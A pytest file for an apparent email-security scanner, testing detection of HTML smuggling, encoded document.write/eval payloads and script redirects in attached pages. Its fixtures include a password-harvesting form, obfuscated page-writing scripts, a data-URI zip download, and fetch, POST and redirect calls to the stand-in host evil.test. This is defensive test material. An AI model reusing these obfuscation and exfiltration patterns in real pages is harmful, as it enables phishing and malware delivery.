"""What scripts of attached pages open and write, without being run."""

import base64
from urllib.parse import quote

import pytest
from hypothesis import given
from hypothesis import strategies as st

from lazaretto.mail.files.attached_page import MAX_LINKS, SHORT_PAGE
from lazaretto.mail.files.scripts import (
    MAX_ADDRESSES,
    MAX_LAYERS,
    MAX_SCRIPT,
    MAX_STRINGS,
    MAX_WRITTEN,
    opened_addresses,
    written_pages,
)
from lazaretto.mail.parse import parse
from tests.unit.mail.letters import file_part, multipart, part

PAGE = "<html><form action='https://evil.test/p'><input type=password></form></html>"


def b64(text):
    return base64.b64encode(text.encode()).decode()


def percent(text):
    return "".join(f"%{ord(c):02x}" for c in text)


@pytest.mark.parametrize(
    "script",
    [
        f"document.write(unescape('{percent(PAGE)}'))",
        f"document.write(atob('{b64(PAGE)}'))",
        f"document.write(decodeURIComponent(atob('{b64(quote(PAGE))}')))",
        "eval('" + "".join(f"\\x{ord(c):02x}" for c in PAGE) + "')",
        "eval(String.fromCharCode(" + ",".join(str(ord(c)) for c in PAGE) + "))",
    ],
    ids=["percent", "base64", "both", "hexadecimal", "numbers"],
)
def test_written_pages(script):
    """The page comes out of its codes."""
    assert [PAGE] == list(written_pages(script))


@pytest.mark.parametrize(
    ("script", "address"),
    [
        ("window.location.href = 'https:\\/\\/evil.test\\/x'", "https://evil.test/x"),
        ('location.replace("http://evil.test")', "http://evil.test"),
        ("x.open('POST', \"https://evil.test/p.php\")", "https://evil.test/p.php"),
        ("fetch(`https://evil.test/p`)", "https://evil.test/p"),
        ("$.post('https://evil.test/p')", "https://evil.test/p"),
        ("a = 'https://cdn.test/'", None),
    ],
)
def test_opened_addresses(script, address):
    """Where it goes and what it sends to; not every address that it names."""
    assert ([address] if address else []) == list(opened_addresses(script))


@pytest.mark.parametrize(
    "script",
    [
        'document.write(unescape("%3Cscript src=\'" + host + "counter.test/a.js\'%3E%3C/script%3E"))',
        f"var picture = '{base64.b64encode(bytes(range(256)) * 4).decode()}'",
        f"var key = '{'ab' * 40}'",
        "var points = [" + ",".join(["12"] * 60) + "]",
    ],
    ids=["counter", "picture", "key", "points"],
)
def test_honest_strings(script):
    """What a saved page brings is no page in codes."""
    assert [] == list(written_pages(script))


def attached(page, name="a.html"):
    return parse(multipart(part("x", Content_Type="text/plain"), file_part(page.encode(), name)))


def test_page_that_writes_a_page():
    """Links and traits of what it writes are its own."""
    message = attached(f"<script>document.write(unescape('{percent(PAGE)}'))</script>")

    assert {"https://evil.test/p"} == {link.href for link in message.links}
    assert {"html_password_field", "html_form", "html_script", "html_smuggling"} == set(
        message.attachments[0].traits
    )


@pytest.mark.parametrize(
    ("page", "away"),
    [
        ("<script>location.href='https://evil.test/x'</script>", True),
        (f"<p>{'word ' * SHORT_PAGE}</p><script>location.href='https://evil.test/x'</script>", False),
        ("<script>fetch('https://evil.test/x')</script>", False),
    ],
)
def test_page_that_is_only_a_way(page, away):
    """A page without words that goes elsewhere at once; what a long page does on a click is its affair."""
    message = attached(page)

    assert away is ("html_refresh" in message.attachments[0].traits)
    assert ["evil.test"] == [link.host for link in message.links]


@pytest.mark.parametrize(
    "page",
    [
        f"<a href='data:application/zip;base64,{'A' * 2000}' download=x.zip>Get it</a>",
        f"<body onload=\"document.write(unescape('{percent(PAGE * 2)}'))\">",
        "<script>document.write('" + "".join(f"\\x{ord(c):02x}" for c in PAGE * 2) + "')</script>",
    ],
    ids=["file in a link", "handler", "codes"],
)
def test_smuggling_without_the_usual_words(page):
    """A file in a link, a page in codes in a handler, and one that needs no decoder."""
    assert "html_smuggling" in attached(page).attachments[0].traits


def test_saved_page():
    """Scripts of every day, with a counter in codes: no smuggling, no way out."""
    page = (
        f"<p>{'word ' * 100}</p><img src='data:image/png;base64,{'A' * 4000}'>"
        "<script>document.write(unescape(\"%3Cscript src='https://counter.test/a.js'%3E%3C/script%3E\"));"
        "var n = decodeURIComponent('%20');</script>"
    )

    assert ("html_script",) == attached(page).attachments[0].traits


def test_limits_of_scripts():
    """Strings, addresses, layers and what comes out are bounded."""
    one = f"'{b64(PAGE)}'"
    deep = PAGE
    for _ in range(MAX_LAYERS + 1):
        deep = b64(deep)
    long = "<html>" + "x" * MAX_WRITTEN

    assert MAX_STRINGS == len(list(written_pages(one * (MAX_STRINGS + 5))))
    assert MAX_WRITTEN == sum(map(len, written_pages("".join(f"'{b64(long[:200_000])}'" for _ in range(5)))))
    assert [] == list(written_pages(f"'{deep}'"))
    assert [] == list(written_pages(" " * MAX_SCRIPT + one))
    assert MAX_ADDRESSES == len(list(opened_addresses("location='http://a.test/';" * (MAX_ADDRESSES + 5))))
    page = "".join(f"<a href=http://a.test/{n}>x</a>" for n in range(MAX_LINKS + 5))
    assert MAX_LINKS == len(attached(page).links)


@given(st.text(alphabet="'\"%\\x04abc,1<> =(locatin.href:/", max_size=300))
def test_total(text):
    """Nothing raises, whatever stands in a script."""
    list(written_pages(text))
    list(opened_addresses(text))
